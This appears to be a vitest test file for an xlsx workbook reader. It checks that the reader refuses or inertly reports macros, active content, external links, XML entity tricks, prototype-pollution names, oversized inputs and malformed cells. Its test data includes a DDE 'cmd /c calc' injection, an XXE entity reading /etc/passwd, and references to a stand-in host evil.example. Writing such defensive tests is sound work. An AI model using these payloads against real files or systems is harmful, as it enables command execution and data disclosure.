/** Threats that come in a workbook's parts: T1-T5, T7, T10-T13, T31, T33, T36, T38, T45. One test or more for each. */
import { afterEach, describe, expect, test } from 'vitest';
import { lastColumn, lastRow } from '../../../../core/index.js';
import { readWorkbook } from '../../../../sync/xlsx-host/read/read.js';
import {
  cellsOf,
  contentTypes,
  dataPart,
  declaration,
  expectRefusal,
  firstRow,
  firstWorksheet,
  number,
  partsWith,
  refusalOf,
  relationships,
  sharedStrings,
  snapshotOf,
  storedXlsx,
  styles,
  text,
  withRows,
  workbookPart,
  worksheet,
  xlsx,
  type Parts,
} from './workbook.js';

const prototypeKeys = Reflect.ownKeys(Object.prototype);
afterEach(() => {
  expect(Reflect.ownKeys(Object.prototype)).toEqual(prototypeKeys);
  expect(Reflect.ownKeys({})).toEqual([]);
});

const one = '<row r="1"><c r="A1"><v>1</v></c></row>';
const inline = (value: string) => `<row r="1"><c r="A1" t="inlineStr"><is><t>${value}</t></is></c></row>`;

describe('T1 text that looks like a formula', () => {
  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '＝1+1', '\u200b=1'])('%j stays text', (value) => {
    expect(cellsOf(withRows(inline(value))).get('1:1')).toEqual({ column: 1, content: text(value) });
  });
});

describe('T2, T4 formulas', () => {
  test.each([
    '1+1',
    'HYPERLINK("http://x.example")',
    'WEBSERVICE("http://x.example")',
    "cmd|'/c calc'!A0",
    '',
  ])('%j is told, not evaluated; its last value is kept apart', (formula) => {
    const escaped = formula.replaceAll('"', '&quot;');
    const cells = cellsOf(withRows(`<row r="1"><c r="A1"><f>${escaped}</f><v>2</v></c></row>`));
    expect(cells.get('1:1')).toEqual({ column: 1, content: number(2), formula });
  });

  test('a formula that was never calculated', () => {
    const cells = cellsOf(
      withRows('<row r="1"><c r="A1"><f>B1</f></c><c r="B1" t="str"><f>""</f><v></v></c></row>'),
    );
    expect(cells.get('1:1')).toEqual({ column: 1, content: null, formula: 'B1' });
    expect(cells.get('1:2')).toEqual({ column: 2, content: null, formula: '""' });
  });
});

describe('T3 macros and active content', () => {
  const types = (part: string, type: string) => ({ '[Content_Types].xml': contentTypes({ [part]: type }) });
  const workbookWith = (kind: string, target: string) => ({
    'xl/_rels/workbook.xml.rels': relationships([
      ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
      ['rId9', kind, target],
    ]),
  });
  const sheetWith = (kind: string, target: string) => ({
    'xl/worksheets/_rels/sheet1.xml.rels': relationships([['rId1', kind, target]]),
  });
  test.each<[string, 'file/macros' | 'file/active-content', string, Parts]>([
    ['VBA by name', 'file/macros', 'xl/vbaProject.bin', { 'xl/vbaProject.bin': 'x' }],
    [
      'VBA by type',
      'file/macros',
      'xl/innocent.bin',
      { 'xl/innocent.bin': 'x', ...types('xl/innocent.bin', 'application/vnd.ms-office.vbaProject') },
    ],
    [
      'VBA by relationship',
      'file/macros',
      'xl/innocent.bin',
      { 'xl/innocent.bin': 'x', ...workbookWith('vbaProject', 'innocent.bin') },
    ],
    [
      'a macro-enabled workbook',
      'file/macros',
      'xl/workbook.xml',
      types('xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
    ],
    [
      'an XLM macro sheet',
      'file/macros',
      'xl/sheet9.xml',
      { 'xl/sheet9.xml': 'x', ...types('xl/sheet9.xml', 'application/vnd.ms-excel.macrosheet+xml') },
    ],
    ['an XLM macro sheet by relationship', 'file/macros', 'xl/m.xml', workbookWith('xlMacrosheet', 'm.xml')],
    [
      'an ActiveX control',
      'file/active-content',
      'xl/activeX/activeX1.xml',
      { 'xl/activeX/activeX1.xml': '<x/>' },
    ],
    ['a control by relationship', 'file/active-content', 'xl/x.xml', sheetWith('control', '../x.xml')],
    [
      'an embedded object',
      'file/active-content',
      'xl/embeddings/oleObject1.bin',
      { 'xl/embeddings/oleObject1.bin': 'x' },
    ],
    ['an embedded package', 'file/active-content', 'xl/x.docx', sheetWith('package', '../x.docx')],
    [
      'a dialog sheet',
      'file/active-content',
      'xl/dialogsheets/sheet1.xml',
      { 'xl/dialogsheets/sheet1.xml': '<x/>' },
    ],
  ])('%s', (_, code, part, others) => {
    expectRefusal(withRows(one, others), code, { part });
  });

  test.each(['ddeLink', 'oleLink'])('%s', (link) => {
    const part = 'xl/externalLinks/externalLink1.xml';
    const content = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><${link} ddeService="cmd" ddeTopic="/c calc"/></externalLink>`;
    expectRefusal(withRows(one, { [part]: content }), 'file/active-content', { part });
  });
});

describe('T5 what points outside is listed, never followed', () => {
  const unc = '\\\\evil.example\\share\\x.xlsx';
  test('external workbooks, pictures, connections', () => {
    const result = readWorkbook(
      xlsx(
        withRows(one, {
          '[Content_Types].xml': contentTypes({
            'xl/connections.xml':
              'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
          }),
          'xl/connections.xml': '<connections><connection id="1" name="Query - prices"/></connections>',
          'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
          'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
            ['rId1', 'externalLinkPath', unc, true],
          ]),
          'xl/drawings/_rels/drawing1.xml.rels': relationships([
            ['rId1', 'image', 'http://evil.example/x.png', true],
          ]),
          'xl/worksheets/_rels/sheet1.xml.rels': relationships([
            ['rId1', 'hyperlink', 'http://ok.example', true],
          ]),
        }),
      ),
    );
    expect(result.ok).toBe(true);
    expect(result.diagnostics.map(({ code, severity, params }) => [code, severity, params])).toEqual([
      ['file/external-content', 'warning', { part: 'xl/connections.xml', target: 'Query - prices' }],
      ['file/external-content', 'warning', { part: 'xl/externalLinks/externalLink1.xml', target: unc }],
      [
        'file/external-content',
        'warning',
        { part: 'xl/drawings/drawing1.xml', target: 'http://evil.example/x.png' },
      ],
    ]);
  });
});

describe('T7 document types and encodings', () => {
  const withType = (type: string) =>
    `<?xml version="1.0"?>${type}${worksheet(one).slice(declaration.length)}`;
  test.each<[string, string]>([
    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['billions of laughs', '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'],
    ['an empty document type', '<!DOCTYPE worksheet>'],
  ])('%s', (_, type) => {
    expectRefusal(partsWith(withType(type)), 'file/document-type', { part: dataPart });
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(withType(type), 'utf16le')]);
    expectRefusal(partsWith(utf16), 'file/document-type', { part: dataPart });
  });

  test('a document type in any part that is read', () => {
    for (const part of [
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
    ]) {
      const parts = withRows(one);
      const content = parts[part] as string;
      parts[part] = content.replace('?>\n', '?><!DOCTYPE x>');
      expectRefusal(parts, 'file/document-type', { part });
    }
  });

  test('an entity that nobody defined', () => {
    expectRefusal(withRows(inline('&xxe;')), 'file/damaged', { part: dataPart });
  });

  const encoded = (encoding: string) => worksheet(one).replace('UTF-8', encoding);
  test.each(['UTF-7', 'ISO-8859-1', 'windows-1256', 'UTF-16', 'utf-8-evil'])('declared as %s', (encoding) => {
    expectRefusal(partsWith(encoded(encoding)), 'file/encoding', {
      part: dataPart,
      encoding: encoding.toLowerCase(),
    });
  });

  test('UTF-32, bytes that are not UTF-8, and lone surrogates in UTF-16', () => {
    const utf32 = Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]);
    expectRefusal(partsWith(utf32), 'file/encoding', { encoding: 'UTF-32' });
    expectRefusal(partsWith(Buffer.from([...Buffer.from(worksheet(inline('x'))), 0xff])), 'file/encoding');
    const lone = Buffer.from(`\ufeff${worksheet(inline('\ud800'))}`, 'utf16le');
    expectRefusal(partsWith(lone), 'file/damaged', { part: dataPart });
  });
});

describe('T10 names that objects know', () => {
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype'];
  test('as worksheet, defined name, text, part, attribute and format', () => {
    const cells = names.map(
      (name) => `<c t="inlineStr" __proto__="x" constructor="y"><is><t>${name}</t></is></c>`,
    );
    const parts = withRows(`<row r="1" __proto__="x">${cells.join('')}</row>`, {
      'xl/workbook.xml': workbookPart(
        '<sheet name="__proto__" sheetId="1" r:id="rId1"/>',
        `<definedNames>${names.map((name) => `<definedName name="${name}">A!$A$1</definedName>`).join('')}</definedNames>`,
      ),
      'xl/styles.xml': styles('<xf numFmtId="__proto__" fillId="constructor"/>'),
      'xl/__proto__': 'x',
      constructor: 'x',
      'xl/_rels/__proto__.rels': relationships([['__proto__', 'constructor', 'toString']]),
    });
    const snapshot = snapshotOf(parts);
    expect(snapshot.worksheets[0]!.name).toBe('__proto__');
    expect(snapshot.worksheets[0]!.rows[0]!.cells.map(({ content }) => content)).toEqual(names.map(text));
    expect(snapshot.definedNames.map(({ name }) => name)).toEqual(names);
  });

  test.each(['__proto__', 'constructor'])('a cell type or a relationship called %s finds nothing', (name) => {
    expectRefusal(withRows(`<row r="1"><c r="A1" t="${name}"><v>1</v></c></row>`), 'file/damaged');
    const parts = withRows(one, {
      'xl/workbook.xml': workbookPart(`<sheet name="M" sheetId="1" r:id="${name}"/>`),
    });
    expectRefusal(parts, 'file/damaged');
  });
});

describe('T11 texts made to hold up a pattern', () => {
  const long = 2_000_000;
  test.each<[string, string]>([
    ['openings of comments', '<!--'.repeat(long / 4)],
    ['an unclosed comment', `<!-- ${'-'.repeat(long)}`],
    ['an entity without an end', `&${'a'.repeat(long)}`],
    ['a tag without an end', `<c ${'a="" '.repeat(1000)}`],
  ])('%s', (_, rubbish) => {
    expectRefusal(storedXlsx(withRows(`${one}${rubbish}`)), 'file/damaged');
  });

  test.each<[string, string]>([
    ['spaces', ' '.repeat(50_000)],
    ['underscores', '_x'.repeat(25_000)],
    ['digits', '9'.repeat(50_000)],
  ])('a text of %s is kept', (_, value) => {
    const parts = withRows('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', {
      'xl/sharedStrings.xml': sharedStrings(`<t xml:space="preserve">${value}</t>`),
    });
    expect(firstRow(storedXlsx(parts))).toEqual([text(value)]);
  });

  test('a number format of 50,000 brackets and quotes', () => {
    const code = '[&quot;'.repeat(25_000);
    const parts = withRows('<row r="1"><c r="A1" s="1"><v>5</v></c></row>', {
      'xl/styles.xml': styles('<xf numFmtId="200"/>', {
        numbers: `<numFmt numFmtId="200" formatCode="${code}"/>`,
      }),
    });
    expect(firstRow(storedXlsx(parts))).toEqual([number(5)]);
  });

  test('addresses and numbers of 50,000 digits', () => {
    const digits = '9'.repeat(50_000);
    expectRefusal(withRows(`<row r="1"><c r="A${digits}"><v>1</v></c></row>`), 'file/damaged');
    expectRefusal(withRows(`<row r="${digits}"><c><v>1</v></c></row>`), 'file/damaged');
    expect(firstRow(withRows(`<row r="1"><c r="A1"><v>${digits}</v></c></row>`))).toEqual([
      { kind: 'error', error: digits },
    ]);
    expect(
      firstWorksheet(partsWith(worksheet(one, `<mergeCells><mergeCell ref="A1:B${digits}"/></mergeCells>`)))
        .merges,
    ).toEqual([]);
  });

  test('200 levels of elements are read, more are refused', () => {
    const nested = (depth: number) => `${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}`;
    expect(firstRow(partsWith(worksheet(one, nested(199))))).toEqual([number(1)]);
    expectRefusal(partsWith(worksheet(one, nested(200))), 'file/damaged', { part: dataPart });
  });
});

describe('T12 ranges that cover everything', () => {
  test('are kept as ranges', () => {
    const all = 'A1:XFD1048576';
    const sheet = firstWorksheet(
      partsWith(
        worksheet(
          `<row r="1"><c r="A1"><f t="array" ref="${all}">1</f><v>1</v></c><c r="C1"><v>2</v></c></row>`,
          `<mergeCells><mergeCell ref="${all}"/></mergeCells><conditionalFormatting sqref="${all}"/><dataValidations><dataValidation type="list" sqref="A:XFD 1:1048576"><formula1>"a"</formula1></dataValidation></dataValidations>`,
          `<dimension ref="${all}"/><cols><col min="1" max="1e999" hidden="1"/><col min="-5" max="2" width="0"/><col min="x" max="3" hidden="1"/></cols>`,
        ),
      ),
    );
    const everything = { top: 1, left: 1, bottom: lastRow, right: lastColumn };
    expect(sheet.merges).toEqual([everything]);
    expect(sheet.conditionalFormats).toEqual([everything]);
    expect(sheet.validations).toEqual([{ type: 'list', ranges: [everything, everything], formula: '"a"' }]);
    expect(sheet.hiddenColumns).toEqual([everything, { ...everything, right: 2 }]);
    expect(sheet.rows).toEqual([
      {
        row: 1,
        hidden: false,
        cells: [
          { column: 1, content: number(1), formula: '1' },
          { column: 3, content: number(2), formula: '1' },
        ],
      },
    ]);
  });

  test.each([
    `<row r="${lastRow + 1}"><c><v>1</v></c></row>`,
    '<row r="0"><c><v>1</v></c></row>',
    '<row r="1e3"><c r="A1e3"><v>1</v></c></row>',
    '<row r="1.5"><c><v>1</v></c></row>',
    '<row r="1"><c r="XFE1"><v>1</v></c></row>',
    '<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>',
    '<row r="1"><c r="5"><v>1</v></c></row>',
    '<row r="1"><c r="A2"><v>1</v></c></row>',
    `<row r="1"><c r="A1"><v>1</v></c></row><row r="1"><c r="B1"><v>1</v></c></row>`,
    '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
    `<row r="${lastRow}"><c><v>1</v></c></row><row><c><v>1</v></c></row>`,
  ])('no cell outside, in another row, or twice: %s', (rows) => {
    expect(refusalOf(withRows(rows))).toMatchObject({
      code: 'file/damaged',
      params: { part: dataPart },
      at: { worksheet: 'Matrix' },
    });
  });

  test('more ranges than any workbook needs', () => {
    const many = Array.from({ length: 100_001 }, (_, index) => `<mergeCell ref="A${(index % 9) + 1}"/>`).join(
      '',
    );
    expectRefusal(
      storedXlsx(partsWith(worksheet(one, `<mergeCells>${many}</mergeCells>`))),
      'file/too-large',
      {
        limit: 100_000,
      },
    );
  });

  test('array formulas that cover one another a thousand times', () => {
    const arrays = Array.from(
      { length: 1500 },
      (_, index) => `<c><f t="array" ref="A1:XFD${index + 1}">1</f></c>`,
    );
    const rows = Array.from({ length: 20 }, () => `<row>${arrays.join('')}</row>`).join('');
    expectRefusal(storedXlsx(withRows(rows)), 'file/too-large', { limit: 20_000_000 });
  });

  test('a long shared formula in very many cells', () => {
    const formula = `&quot;${'x'.repeat(8000)}&quot;`;
    const cells = '<c><f t="shared" si="0"/></c>'.repeat(6000);
    const rows = `<row r="1"><c><f t="shared" si="0" ref="A1:XFD1">${formula}</f></c>${cells}</row>`;
    expectRefusal(storedXlsx(withRows(rows)), 'file/too-large', { what: 'characters in shared formulas' });
  });
});

describe('T13 blank rows and cells without end', () => {
  test('a million blank styled rows and two million blank cells cost nothing but their reading', () => {
    const rows: string[] = [one];
    for (let row = 2; row <= lastRow; row += 1) rows.push(`<row r="${row}" s="1" customFormat="1"/>`);
    expect(firstWorksheet(storedXlsx(withRows(rows.join('')))).rows).toHaveLength(1);
    const cells: string[] = [one];
    for (let row = 2; row <= 2001; row += 1)
      cells.push(`<row r="${row}">${`<c s="${row % 7}"/>`.repeat(1000)}</row>`);
    expect(firstWorksheet(storedXlsx(withRows(cells.join('')))).rows).toHaveLength(1);
  });

  test('two million cells with content are the most', () => {
    const rows: string[] = [];
    for (let row = 1; row <= 2001; row += 1) rows.push(`<row>${`<c><v>${row}</v></c>`.repeat(1000)}</row>`);
    expectRefusal(storedXlsx(withRows(rows.join(''))), 'file/too-large', {
      what: 'cells with content',
      limit: 2_000_000,
    });
  });
});

describe('T31, T38 characters', () => {
  test('bidirectional controls, zero-width and non-breaking characters, and both forms of é are kept byte for byte', () => {
    const value = '\u202eabc\u200b\u00a0é e\u0301 ۱۲۳ \u{1F600}';
    expect(firstRow(withRows(inline(value)))).toEqual([text(value)]);
  });

  test('escaped characters come back, an escaped underscore stays', () => {
    expect(firstRow(withRows(inline('a_x000D_b_x0000_c_x005F_x000D_')))).toEqual([text('a\rb\0c_x000D_')]);
  });

  test.each(['&#0;', '&#xD800;', '&#xFFFF;', '\u0001', '\ufffe'])('%j is not XML', (value) => {
    expectRefusal(withRows(inline(value)), 'file/damaged', { part: dataPart });
  });
});

describe('T33 numbers and errors that are none', () => {
  test.each(['1e309', '-1e309', 'NaN', 'Infinity', '0x10', ' 0b1', '1,5', '12abc', '１２'])('%j', (value) => {
    expect(firstRow(withRows(`<row r="1"><c r="A1"><v>${value}</v></c></row>`))).toEqual([
      { kind: 'error', error: value },
    ]);
  });

  test.each(['#REF!', '#N/A', '#DIV/0!'])('%s', (value) => {
    expect(firstRow(withRows(`<row r="1"><c r="A1" t="e"><v>${value}</v></c></row>`))).toEqual([
      { kind: 'error', error: value },
    ]);
  });

  test('a boolean that is neither, a date that is none', () => {
    expect(
      firstRow(
        withRows(
          '<row r="1"><c t="b"><v>2</v></c><c t="d"><v>2019-02-30</v></c><c t="d"><v>soon</v></c></row>',
        ),
      ),
    ).toEqual([
      { kind: 'error', error: '2' },
      { kind: 'error', error: '2019-02-30' },
      { kind: 'error', error: 'soon' },
    ]);
  });
});

describe('T36 what is hidden is read, and told', () => {
  test('rows, columns, worksheets, filters', () => {
    const snapshot = snapshotOf(
      partsWith(
        worksheet(
          '<row r="1" hidden="1"><c r="A1"><v>1</v></c></row><row r="2" ht="0" customHeight="1"><c r="A2"><v>2</v></c></row><row r="3"><c r="A3"><v>3</v></c></row>',
          '<sheetProtection sheet="1"/><autoFilter ref="A1:B3"><filterColumn colId="0"/></autoFilter>',
          '<cols><col min="2" max="3" hidden="1"/><col min="5" max="5" width="9"/></cols>',
        ),
        {
          'xl/workbook.xml': workbookPart(
            '<sheet name="Matrix" sheetId="1" state="veryHidden" r:id="rId1"/>',
          ),
        },
      ),
    );
    expect(snapshot.worksheets[0]).toMatchObject({
      visibility: 'very-hidden',
      rows: [
        { row: 1, hidden: true },
        { row: 2, hidden: true },
        { row: 3, hidden: false },
      ],
      hiddenColumns: [{ top: 1, left: 2, bottom: lastRow, right: 3 }],
      isProtected: true,
      isFiltered: true,
    });
  });

  test('a filter without criteria, and protection that is off', () => {
    const sheet = firstWorksheet(
      partsWith(worksheet(one, '<sheetProtection sheet="0"/><autoFilter ref="A1:B3"/>')),
    );
    expect(sheet).toMatchObject({ isProtected: false, isFiltered: false, visibility: 'visible' });
  });

  test('the filter of a table', () => {
    const parts = withRows(one, {
      'xl/worksheets/_rels/sheet1.xml.rels': relationships([['rId1', 'table', '../tables/table1.xml']]),
      'xl/tables/table1.xml': '<table><autoFilter ref="A1:B3"><filterColumn colId="0"/></autoFilter></table>',
    });
    expect(firstWorksheet(parts).isFiltered).toBe(true);
  });
});

describe('T45 never an empty success', () => {
  test.each<[string, Parts]>([
    ['no worksheet', { 'xl/workbook.xml': workbookPart('') }],
    [
      'only a chart sheet',
      { 'xl/_rels/workbook.xml.rels': relationships([['rId1', 'chartsheet', 'chartsheets/sheet1.xml']]) },
    ],
    ['no workbook part', { '_rels/.rels': relationships([['rId1', 'officeDocument', 'xl/other.xml']]) }],
    ['no office document', { '_rels/.rels': relationships([]) }],
    ['a worksheet without a relationship', { 'xl/_rels/workbook.xml.rels': relationships([]) }],
    [
      'a worksheet without a part',
      { 'xl/_rels/workbook.xml.rels': relationships([['rId1', 'worksheet', 'gone.xml']]) },
    ],
    [
      'a worksheet outside the package',
      { 'xl/_rels/workbook.xml.rels': relationships([['rId1', 'worksheet', 'http://x', true]]) },
    ],
    ['a worksheet that is something else', { [dataPart]: '<html><body/></html>' }],
    ['an empty worksheet part', { [dataPart]: '' }],
    ['a worksheet without a table of cells', { [dataPart]: '<worksheet/>' }],
    ['a worksheet with two', { [dataPart]: '<worksheet><sheetData/><sheetData/></worksheet>' }],
    ['a worksheet cut off', { [dataPart]: worksheet(one).slice(0, -20) }],
    ['a workbook that is something else', { 'xl/workbook.xml': '<chartsheet/>' }],
    [
      'a string that is not in the table',
      { [dataPart]: worksheet('<row r="1"><c r="A1" t="s"><v>7</v></c></row>') },
    ],
    ['a string table cut off', { 'xl/sharedStrings.xml': '<sst><si><t>a</t></si>' }],
    ['styles cut off', { 'xl/styles.xml': '<styleSheet>' }],
  ])('%s', (_, others) => {
    expectRefusal(withRows(one, others), 'file/damaged');
  });

  test.each([
    '<v>1</v><v>2</v>',
    '<f>1</f><f>2</f>',
    '<is><t>1</t></is><is><t>2</t></is>',
    '<is><t>1</t></is><v>2</v>',
  ])('a cell that says two things: %s', (content) => {
    expect(refusalOf(withRows(`<row r="3"><c r="C3">${content}</c></row>`))).toMatchObject({
      code: 'file/damaged',
      at: { worksheet: 'Matrix', range: 'C3' },
    });
  });

  test('one cell more often than a row has columns', () => {
    const cells = '<c r="A1"><v>1</v></c>'.repeat(lastColumn + 1);
    expectRefusal(storedXlsx(withRows(`<row r="1">${cells}</row>`)), 'file/damaged', {
      reason: 'the cell occurs twice',
    });
  });

  test('the place of a broken cell', () => {
    expect(refusalOf(withRows('<row r="9"><c r="AB9" t="s"><v>7</v></c></row>'))).toMatchObject({
      code: 'file/damaged',
      at: { worksheet: 'Matrix', range: 'AB9' },
    });
  });

  test('two worksheets of one name, or of one part', () => {
    const rels = relationships([
      ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
      ['rId2', 'worksheet', 'worksheets/sheet2.xml'],
    ]);
    const two = (names: readonly [string, string], ids: readonly [string, string]): Parts =>
      withRows(one, {
        'xl/worksheets/sheet2.xml': worksheet(one),
        'xl/_rels/workbook.xml.rels': rels,
        'xl/workbook.xml': workbookPart(
          names
            .map((name, index) => `<sheet name="${name}" sheetId="${index + 1}" r:id="${ids[index]!}"/>`)
            .join(''),
        ),
      });
    expect(snapshotOf(two(['A', 'B'], ['rId1', 'rId2'])).worksheets).toHaveLength(2);
    expectRefusal(two(['Matrix', 'MATRIX'], ['rId1', 'rId2']), 'file/ambiguous-part');
    expectRefusal(two(['A', 'B'], ['rId1', 'rId1']), 'file/ambiguous-part');
  });

  test('a worksheet that nobody wants is listed, and its part is not even unpacked', () => {
    const parts = withRows(one, { [dataPart]: 'this is no XML' });
    expect(snapshotOf(xlsx(parts), { worksheets: () => false }).worksheets).toEqual([
      expect.objectContaining({ name: 'Matrix', rows: [] }),
    ]);
    expectRefusal(parts, 'file/damaged');
  });
});
